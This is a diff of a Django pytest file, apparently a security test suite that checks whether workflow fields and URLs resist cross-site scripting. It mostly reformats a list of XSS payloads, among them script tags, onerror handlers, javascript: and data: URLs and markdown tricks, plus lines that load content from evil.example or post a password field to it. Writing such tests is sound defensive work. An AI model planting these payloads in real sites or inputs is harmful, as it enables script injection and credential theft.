@@ -23,19 +23,44 @@ pytestmark = pytest.mark.django_db
 EVIL = "\"'><img src=//evil.example/x onerror=alert(1)><script>alert(1)</script><svg/onload=alert(1)>{{7*7}}</textarea>"
 ADDRESS = "javascript:alert(document.domain)//"
 SET = [
-    EVIL, "</script><script>alert(1)</script>", "<svg><animate onbegin=alert(1)>", "<math><mi xlink:href=javascript:x>",
-    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
-    "&#106;avascript:alert(1)", "${alert(1)}", "`-alert(1)-`", "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<a href=javascript:alert(1)>x</a>", "<style>@import '//evil.example'</style>", "<base href=//evil.example>",
-    "<form action=//evil.example><input name=password>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<object data=//evil.example>", "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example>",
-    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
-    "<!--<img src='--><img src=x onerror=alert(1)//'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "]]><script>alert(1)</script>", "\u2028alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "<scr\x0cipt>alert(1)</script>",
-    "[x](javascript:alert(1))", "![x](//evil.example/p.png)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "<http://evil.example/><img src=x onerror=alert(1)>", "![x][y]\n\n[y]: //evil.example/p.png",
-    "[x]: <javascript:alert(1)>\n\n[x]", "```<script>alert(1)</script>```", "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
-]  # fmt: skip
+    EVIL,
+    "</script><script>alert(1)</script>",
+    "<svg><animate onbegin=alert(1)>",
+    "<math><mi xlink:href=javascript:x>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "&#106;avascript:alert(1)",
+    "${alert(1)}",
+    "`-alert(1)-`",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<style>@import '//evil.example'</style>",
+    "<base href=//evil.example>",
+    "<form action=//evil.example><input name=password>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<object data=//evil.example>",
+    "<embed src=//evil.example>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<!--<img src='--><img src=x onerror=alert(1)//'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "]]><script>alert(1)</script>",
+    "\u2028alert(1)",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "<scr\x0cipt>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "![x](//evil.example/p.png)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "<http://evil.example/><img src=x onerror=alert(1)>",
+    "![x][y]\n\n[y]: //evil.example/p.png",
+    "[x]: <javascript:alert(1)>\n\n[x]",
+    "```<script>alert(1)</script>```",
+    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
+]
 LOADS = {
     "img",
     "iframe",
@@ -51,11 +76,42 @@ LOADS = {
     "svg",
     "math",
 }
-FREE = {"name", "title", "description", "note", "help", "value", "body", "comment", "status_text", "started_by", "source",
-        "user_template", "system", "resolved_by", "updated_by", "cancelled_by", "text", "op"}  # fmt: skip
+FREE = {
+    "name",
+    "title",
+    "description",
+    "note",
+    "help",
+    "value",
+    "body",
+    "comment",
+    "status_text",
+    "started_by",
+    "source",
+    "user_template",
+    "system",
+    "resolved_by",
+    "updated_by",
+    "cancelled_by",
+    "text",
+    "op",
+}
 ADDRESSES = {"external_url", "search_url", "base_url"}
-JSON_FIELDS = {"inputs", "outputs", "input", "output", "error", "target", "request", "result", "data", "masked", "warnings",
-               "fields", "details"}  # fmt: skip
+JSON_FIELDS = {
+    "inputs",
+    "outputs",
+    "input",
+    "output",
+    "error",
+    "target",
+    "request",
+    "result",
+    "data",
+    "masked",
+    "warnings",
+    "fields",
+    "details",
+}
 SOUND = {"action", "error", "fields", "inputs", "outputs"}  # of a definition: must stay readable
 
 
@@ -200,9 +256,16 @@ def test_markdown_from_outside_runs_and_loads_nothing(text):
 @pytest.mark.parametrize("text", SET)
 def test_names_and_texts_are_taken_whole_and_shown_as_text(owner, text):
     clean = text.replace("\x0c", "").replace("\t", " ").replace("\n", " ")
-    body = {"format": 1, "slug": "bad", "name": clean[:120], "description": clean, "inputs": [
-        {"name": "about", "type": "text", "label": clean[:100], "help": clean[:200], "default": clean}],
-        "steps": [{"key": "say", "name": clean[:100], "action": "data.format", "with": {"template": "x"}, "note": clean}]}  # fmt: skip
+    body = {
+        "format": 1,
+        "slug": "bad",
+        "name": clean[:120],
+        "description": clean,
+        "inputs": [{"name": "about", "type": "text", "label": clean[:100], "help": clean[:200], "default": clean}],
+        "steps": [
+            {"key": "say", "name": clean[:100], "action": "data.format", "with": {"template": "x"}, "note": clean}
+        ],
+    }
     made = owner.api.post_json("/api/v1/workflows", body)
     assert made.status_code == 201, made.text
     assert made.json()["name"] == clean[:120]
@@ -221,8 +284,19 @@ def test_names_and_texts_are_taken_whole_and_shown_as_text(owner, text):
     assert json.loads(shown.content)["name"] == clean[:120] and "attachment" in shown.headers["Content-Disposition"]
 
 
-@pytest.mark.parametrize("address", [ADDRESS, "data:text/html,x", "//evil.example", "https:\\\\evil", "https://a@evil.example/",
-                                     "javascript:https://github.com/", " java\tscript:x", "ftp://x/y"])  # fmt: skip
+@pytest.mark.parametrize(
+    "address",
+    [
+        ADDRESS,
+        "data:text/html,x",
+        "//evil.example",
+        "https:\\\\evil",
+        "https://a@evil.example/",
+        "javascript:https://github.com/",
+        " java\tscript:x",
+        "ftp://x/y",
+    ],
+)
 def test_only_an_address_of_the_web_is_taken_for_where_a_change_is(address):
     world = plant("canary_settle")
     effect = world.things["effect"]
